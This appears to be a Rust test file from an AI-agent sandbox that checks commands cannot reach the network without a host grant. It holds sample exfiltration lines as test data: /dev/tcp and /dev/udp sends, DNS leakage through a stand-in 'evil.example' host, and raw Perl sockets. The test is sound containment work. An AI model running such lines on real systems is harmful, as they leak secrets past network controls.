//! Without a grant for hosts there is no network: no resolver, no route, no socket.

use std::net::{Ipv4Addr, UdpSocket};

use super::{ANY_COMMAND, BYPASS, bash};
use crate::aftermath::assert_all_failed;
use crate::calls::main_agent;
use crate::web::Inside;
use crate::world::as_each_user;

/// Sends a UDP packet to a host.
fn packet_to(port: u16) -> String {
    format!(
        "perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0) or die $!; \
         send(S, \"secret.evil.example\", 0, pack_sockaddr_in({port}, inet_aton(\"127.0.0.1\"))) or die $!'"
    )
}

#[test]
fn s28_nothing_leaves_a_command_without_a_network() {
    as_each_user(|world| {
        let secret = Inside::secret();
        let resolver = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        resolver.set_nonblocking(true).unwrap();
        let (tcp, udp) = (secret.port, resolver.local_addr().unwrap().port());
        let lines = [
            format!("exec 3<> /dev/tcp/127.0.0.1/{tcp} && echo >&3 && cat <&3"),
            format!("exec 3<> /dev/tcp/localhost/{tcp} && echo >&3 && cat <&3"),
            format!("echo secret.evil.example > /dev/udp/127.0.0.1/{udp}"),
            packet_to(udp),
            "timeout 5 getent ahosts $(echo secret).evil.example".to_owned(),
            "perl -MSocket -e 'socket(S, AF_INET, SOCK_RAW, 1) or die $!'".to_owned(),
            "perl -MSocket -e 'socket(S, AF_INET6, SOCK_STREAM, 0) or die $!'".to_owned(),
            "perl -e 'socket(S, 16, 3, 0) or die $!'".to_owned(),
            "perl -e 'socket(S, 40, 1, 0) or die $!'".to_owned(),
        ];
        let after = world.run(ANY_COMMAND, main_agent(lines.iter().map(|line| bash(line))));
        assert_all_failed(&after.assert_completed().answers(), "");
        secret.assert_never_called();
        assert!(resolver.recv(&mut [0; 64]).is_err(), "no packet came");
        // Without walls, the lines do reach somebody.
        let open = [ANY_COMMAND, &["--unconfined"]].concat();
        let lines = [format!("echo > /dev/tcp/127.0.0.1/{tcp}"), packet_to(udp)];
        let after = world.run(&open, main_agent(lines.iter().map(|line| bash(line))));
        after.assert_completed().answers().iter().for_each(crate::aftermath::Answer::assert_done);
        assert!(resolver.recv(&mut [0; 64]).is_ok(), "{after:#?}");
    });
}

#[test]
fn s28_with_granted_hosts_the_proxy_is_the_only_way_out() {
    as_each_user(|world| {
        let after = world.run(BYPASS, main_agent([bash("cat /proc/net/route /proc/net/dev")]));
        let text = after.assert_completed().answer_of("main").text;
        let interfaces: Vec<&str> =
            text.lines().filter_map(|line| line.split_once(':')).map(|(name, _)| name.trim()).collect();
        assert_eq!(interfaces, ["lo"], "{text}");
        let routes = text.lines().take_while(|line| !line.contains("Receive")).count();
        assert!(routes <= 1, "the head alone: {text}");
    });
}
